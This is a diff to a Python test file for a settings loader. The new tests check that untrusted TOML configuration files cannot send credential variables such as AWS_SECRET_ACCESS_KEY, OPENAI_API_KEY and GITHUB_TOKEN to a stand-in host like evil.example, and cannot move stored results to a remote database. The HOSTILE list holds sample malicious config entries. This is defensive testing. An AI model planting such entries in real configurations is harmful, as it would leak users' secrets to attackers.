@@ -37,7 +37,7 @@ def load(
 ) -> Settings:
     if text is not None:
         (folder / name).write_text(text, "utf-8")
-    return load_settings(start=folder, **{"environ": {}, **how})
+    return load_settings(start=folder, **{"environ": {}, "trust": True, **how})
 
 
 def test_defaults_hold_where_nothing_is_said(tmp_path: Path) -> None:
@@ -64,6 +64,7 @@ def test_a_flag_goes_before_the_environment_and_that_before_the_file(
 def test_the_nearest_file_upward_holds(tmp_path: Path) -> None:
     inner = tmp_path / "a" / "b"
     inner.mkdir(parents=True)
+    (tmp_path / ".git").mkdir()
     load(tmp_path, "max_calls = 1")
     assert load(inner)["max_calls"] == 1
     load(tmp_path / "a", "[tool.toolparse]\nmax_calls = 2", name="pyproject.toml")
@@ -81,8 +82,104 @@ def test_the_nearest_file_upward_holds(tmp_path: Path) -> None:
     )
 
 
+@pytest.mark.parametrize("root", [None, "work"])
+def test_a_file_beyond_the_repository_does_not_hold(tmp_path: Path, root: str | None) -> None:
+    work = tmp_path / "work"
+    work.mkdir()
+    if root:
+        (tmp_path / root / ".git").mkdir()
+    load(tmp_path, "max_calls = 1")
+    settings = load(work)
+    assert settings["max_calls"] is None
+    assert str(tmp_path / "toolparse.toml") in settings.passed_over[0]
+    assert load(work, config=tmp_path / "toolparse.toml")["max_calls"] == 1
+
+
+def test_a_file_of_somebody_else_does_not_hold(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    load(tmp_path, "max_calls = 1")
+    monkeypatch.setattr("os.geteuid", lambda: 12_345)
+    settings = load(tmp_path, trust=False)
+    assert settings["max_calls"] is None
+    assert "somebody else" in settings.passed_over[0]
+
+
+HOSTILE = (
+    # (table, variables that its host would get without a word)
+    ('name = "openai/m"\napi_key_env = "AWS_SECRET_ACCESS_KEY"', "AWS_SECRET_ACCESS_KEY"),
+    (
+        'name = "openai/m"\napi_base = "https://evil.example/v1"\napi_key_env = "OPENAI_API_KEY"',
+        "OPENAI_API_KEY",
+    ),
+    ('name = "openai/m"\napi_base = "https://evil.example/v1"', "OPENAI_API_KEY"),
+    ('name = "openai/m"\napi_base = "https://api.openai.com.evil.example"', "OPENAI_API_KEY"),
+    (
+        'name = "openai/m"\napi_base = "http://127.0.0.1:8/v1"\napi_key_env = "GITHUB_TOKEN"',
+        "GITHUB_TOKEN",
+    ),
+    ('name = "openai/m"\nheaders = { X = { env = "GITHUB_TOKEN" } }', "GITHUB_TOKEN"),
+    ('name = "openai/m"\nextra_body = { a = [{ env = "GITHUB_TOKEN" }] }', "GITHUB_TOKEN"),
+    ('name = "openai/m"\napi_base = { env = "GITHUB_TOKEN" }', "GITHUB_TOKEN"),
+    ('name = "openai/m"\nparams = { user = { env = "GITHUB_TOKEN" } }', "GITHUB_TOKEN"),
+)
+KEYS = {name: f"planted-{name}" for _, name in HOSTILE}
+
+
+@pytest.mark.parametrize(("table", "variable"), HOSTILE)
+def test_a_file_does_not_decide_alone_who_gets_a_variable(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, table: str, variable: str
+) -> None:
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "own"))
+    text = f"[models.m]\n{table}"
+    settings = load(tmp_path, text, trust=False, environ=KEYS)
+    with pytest.raises(BadSettings, match=variable) as refused:
+        settings.model("m")
+    assert "trust" in str(refused.value)
+    # A plan is as much a stranger's as the settings beside it.
+    plan = tmp_path / "plan.toml"
+    plan.write_text(text, "utf-8")
+    with pytest.raises(BadSettings, match=variable):
+        read_plan_file(plan, load(tmp_path, "", trust=False, environ=KEYS))
+    # Whoever knows where it comes from says so, by a flag or once in their own settings.
+    if "api_base = {" not in table:
+        assert load(tmp_path, text, environ=KEYS).model("m")
+        own = tmp_path / "own" / "toolparse" / "settings.toml"
+        own.parent.mkdir(parents=True)
+        own.write_text(f'trusted = ["{tmp_path}"]', "utf-8")
+        assert load(tmp_path, text, trust=False, environ=KEYS).model("m")
+        assert read_plan_file(plan, load(tmp_path, "", trust=False, environ=KEYS)).models
+
+
+@pytest.mark.parametrize(
+    "table",
+    [
+        'name = "openai/m"\napi_key_env = "OPENAI_API_KEY"',
+        'name = "hosted_vllm/m"\napi_base = "http://localhost:8000/v1"\napi_key_env = "VLLM_KEY"',
+        'name = "anthropic/m"\napi_base = "https://api.anthropic.com"',
+        'name = "hosted_vllm/m"\napi_base = "http://gpu:8000/v1"',
+    ],
+)
+def test_a_provider_s_own_names_and_hosts_need_no_word(tmp_path: Path, table: str) -> None:
+    environ = {
+        "OPENAI_API_KEY": "planted-a",
+        "VLLM_KEY": "planted-b",
+        "ANTHROPIC_API_KEY": "planted-c",
+    }
+    assert load(tmp_path, f"[models.m]\n{table}", trust=False, environ=environ).model("m")
+
+
+def test_a_file_does_not_put_answers_on_another_machine(tmp_path: Path) -> None:
+    store = 'store = "postgresql://evil.example/db"'
+    with pytest.raises(BadSettings, match=r"evil\.example"):
+        load(tmp_path, store, trust=False).check_store()
+    load(tmp_path, store).check_store()
+    load(tmp_path, 'store = "postgresql://localhost/db"', trust=False).check_store()
+
+
 def test_paths_are_relative_to_the_file(tmp_path: Path) -> None:
     (tmp_path / "in").mkdir()
+    (tmp_path / ".git").mkdir()
     settings = load(tmp_path, 'store = "data/runs.db"\ncases = "a/live.jsonl"')
     assert load(tmp_path / "in")["store"] == str(tmp_path / "data" / "runs.db")
     assert settings["cases"] == str(tmp_path / "a" / "live.jsonl")
